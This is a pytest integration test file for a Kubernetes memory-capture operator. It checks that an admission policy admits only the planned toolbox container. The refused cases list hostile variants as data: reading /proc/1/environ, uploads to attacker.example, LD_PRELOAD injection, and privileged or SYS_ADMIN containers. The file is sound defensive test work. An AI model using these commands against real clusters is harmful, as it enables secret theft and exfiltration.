"""The operator's reach, acting as its ServiceAccount on the real API server.

The session's operator runs as a ServiceAccount with the chart's RBAC and under the
chart's operator-reach ValidatingAdmissionPolicy (``memwarden.reach``, installed by the
``operator`` fixture). With that identity, the toolbox as the capture plan makes it is
admitted; any other ephemeral container is refused with the policy's message. Server-side
dry runs: admission (the policy included) runs, nothing is stored.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

import pytest
from kubernetes import client
from kubernetes.client.rest import ApiException

from memwarden import reach
from memwarden.capture.plan import ALL_ARTIFACTS, ENV_UPLOAD_URL, plan_ephemeral_container
from memwarden.evidence.adapters.api import bundle_url
from memwarden_testing.builders import make_container, make_pod
from memwarden_testing.cluster import REPO, api_client, kubectl, wait_for
from memwarden_testing.loop import TOOLBOX_IMAGE
from memwarden_testing.operator import REACH_POLICY, OperatorProcess

pytestmark = pytest.mark.integration

Change = Callable[[dict[str, Any]], None]


def planned(operator: OperatorProcess, namespace: str, *, ptrace: bool = True) -> dict[str, Any]:
    """The toolbox exactly as the operator plans it for an incident in ``namespace``."""
    base = f"http://{operator.evidence_authority}/evidence"
    return plan_ephemeral_container(
        incident="leak-1",
        incident_uid=f"uid-{namespace}-{ptrace}",
        target_container="app",
        image=TOOLBOX_IMAGE,
        upload_url=bundle_url(base, namespace=namespace, name="leak-1"),
        upload_token="v1.token-for-one-incident",
        pprof_port=6060,
        trace_seconds=5,
        artifacts=ALL_ARTIFACTS,
        max_core_bytes=2 << 30,
        ptrace_allowed=ptrace,
        upload_ca_pem="-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
    )


@pytest.fixture
def target(kube: client.ApiClient, namespace: str) -> str:
    """A Pending pod (no node needed: admission is the subject) with a volume to mount."""
    pod = make_pod("target", namespace=namespace, containers=[make_container("app")])
    pod["spec"]["volumes"] = [{"name": "data", "emptyDir": {}}]
    client.CoreV1Api(kube).create_namespaced_pod(namespace, pod)
    return "target"


@pytest.fixture
def as_operator(memwarden: OperatorProcess) -> client.CoreV1Api:
    assert memwarden.identity is not None
    return client.CoreV1Api(api_client(memwarden.identity))


def add(api: client.CoreV1Api, namespace: str, container: dict[str, Any]) -> tuple[int, str]:
    """Add ``container`` to the target pod (dry run): the status and the API's message."""
    try:
        api.patch_namespaced_pod_ephemeralcontainers(
            "target", namespace, {"spec": {"ephemeralContainers": [container]}}, dry_run="All"
        )
    except ApiException as exc:
        return int(exc.status), str(json.loads(exc.body).get("message"))
    return 200, ""


@pytest.mark.parametrize(
    "ptrace", [pytest.param(True, id="ptrace"), pytest.param(False, id="no-ptrace")]
)
def test_the_operator_may_add_its_toolbox_as_planned(
    memwarden: OperatorProcess,
    as_operator: client.CoreV1Api,
    namespace: str,
    target: str,
    ptrace: bool,
) -> None:
    assert add(as_operator, namespace, planned(memwarden, namespace, ptrace=ptrace)) == (200, "")


def _set(path: str, value: Any) -> Change:
    def change(container: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node = container
        for key in parents:
            node = node.setdefault(key, {})
        node[last] = value

    return change


def _append(key: str, value: Any) -> Change:
    return lambda container: container.setdefault(key, []).append(value)


def _upload_to(url: str) -> Change:
    def change(container: dict[str, Any]) -> None:
        for item in container["env"]:
            if item["name"] == ENV_UPLOAD_URL:
                item["value"] = url

    return change


def _privileged(container: dict[str, Any]) -> None:
    """privileged: true (which the API server allows only with privilege escalation)."""
    context = container["securityContext"]
    context["privileged"] = True
    context.pop("allowPrivilegeEscalation")


SECRET_REF = {"secretKeyRef": {"name": "db-password", "key": "p"}}

REFUSED = [
    pytest.param(_set("image", "docker.io/library/busybox:1"), "image must be", id="other-image"),
    pytest.param(
        _set("command", ["sh", "-c", "cat /proc/1/environ"]), "command must be", id="other-command"
    ),
    pytest.param(
        _append("command", "--upload=https://attacker.example/"),
        "command must be",
        id="upload-flag",
    ),
    pytest.param(lambda c: c["command"].extend(["--out", "x"]), "command must be", id="out-flag"),
    pytest.param(
        lambda c: c["command"].__setitem__(-1, "/proc/1/root/etc/passwd"),
        "command must be",
        id="termination-log-into-the-target",
    ),
    pytest.param(_set("args", ["--pid", "7"]), "command must be", id="args"),
    pytest.param(_privileged, "securityContext must be", id="privileged"),
    pytest.param(
        _set("securityContext.capabilities.add", ["SYS_PTRACE", "SYS_ADMIN"]),
        "securityContext must be",
        id="extra-capability",
    ),
    pytest.param(
        _set("securityContext.capabilities.drop", []),
        "securityContext must be",
        id="default-capabilities-kept",
    ),
    pytest.param(
        _set("securityContext.seccompProfile", {"type": "Unconfined"}),
        "securityContext must be",
        id="unconfined-seccomp",
    ),
    pytest.param(
        _set("envFrom", [{"secretRef": {"name": "db-password"}}]),
        "env may set only",
        id="env-from-secret",
    ),
    pytest.param(
        _append("env", {"name": "MEMWARDEN_UPLOAD_TOKEN", "valueFrom": SECRET_REF}),
        "env may set only",
        id="env-value-from-secret",
    ),
    pytest.param(
        _append("env", {"name": "LD_PRELOAD", "value": "/tmp/x.so"}),
        "env may set only",
        id="extra-env",
    ),
    pytest.param(
        _upload_to("https://attacker.example/evidence/v1/namespaces/x/incidents/y/bundle"),
        "env may set only",
        id="upload-elsewhere",
    ),
    pytest.param(
        _set("volumeMounts", [{"name": "data", "mountPath": "/data"}]),
        "no volumeMounts",
        id="volume-mount",
    ),
    pytest.param(_set("stdin", True), "no stdin or tty", id="stdin"),
]


@pytest.mark.parametrize(("change", "message"), REFUSED)
def test_the_operator_may_add_nothing_else(
    memwarden: OperatorProcess,
    as_operator: client.CoreV1Api,
    namespace: str,
    target: str,
    change: Change,
    message: str,
) -> None:
    container = copy.deepcopy(planned(memwarden, namespace))
    change(container)
    status, said = add(as_operator, namespace, container)
    assert status == 403, said
    assert f"ValidatingAdmissionPolicy '{REACH_POLICY}'" in said
    assert "memwarden's service account may add only its toolbox: " in said
    assert message in said


def test_others_ephemeral_containers_are_not_the_policys_business(
    memwarden: OperatorProcess,
    as_operator: client.CoreV1Api,
    kube: client.ApiClient,
    namespace: str,
    target: str,
) -> None:
    """A person's ``kubectl debug`` is admitted (the policy matches memwarden's user only),
    and a debug container already in the pod does not stop memwarden adding its toolbox."""
    anything = {"name": "debugger", "image": "busybox:1", "targetContainerName": "app"}
    admin = client.CoreV1Api(kube)
    admin.patch_namespaced_pod_ephemeralcontainers(
        "target", namespace, {"spec": {"ephemeralContainers": [anything]}}
    )
    pod = admin.read_namespaced_pod("target", namespace)
    existing = [
        admin.api_client.sanitize_for_serialization(c) for c in pod.spec.ephemeral_containers
    ]
    toolbox = planned(memwarden, namespace)
    body = {"spec": {"ephemeralContainers": [*existing, toolbox]}}
    as_operator.patch_namespaced_pod_ephemeralcontainers("target", namespace, body, dry_run="All")


def test_the_policy_knows_every_field_of_the_api_servers_ephemeral_container(
    memwarden: OperatorProcess, kube: client.ApiClient
) -> None:
    """A field a later Kubernetes adds would pass unchecked: the lists in memwarden.reach
    must be the API server's, and the server type-checks the policy without a warning."""
    spec = json.loads(kubectl(memwarden.kubeconfig, "get", "--raw", "/openapi/v3/api/v1").stdout)[
        "components"
    ]["schemas"]
    fields = set(spec["io.k8s.api.core.v1.EphemeralContainer"]["properties"])
    assert fields == set(reach.CONTAINER_FIELDS)
    assert set(spec["io.k8s.api.core.v1.SecurityContext"]["properties"]) == set(
        reach.SECURITY_CONTEXT_FIELDS
    )
    admission = client.AdmissionregistrationV1Api(kube)

    def checked() -> Any:
        policy = admission.read_validating_admission_policy(REACH_POLICY)
        status = policy.status
        return (
            status if status and status.observed_generation == policy.metadata.generation else None
        )

    wait_for(checked, timeout=30, what="the policy type-checked")
    assert not (checked().type_checking.expression_warnings or []), checked().type_checking
    assert (REPO / reach.CHART_TEMPLATE).exists()
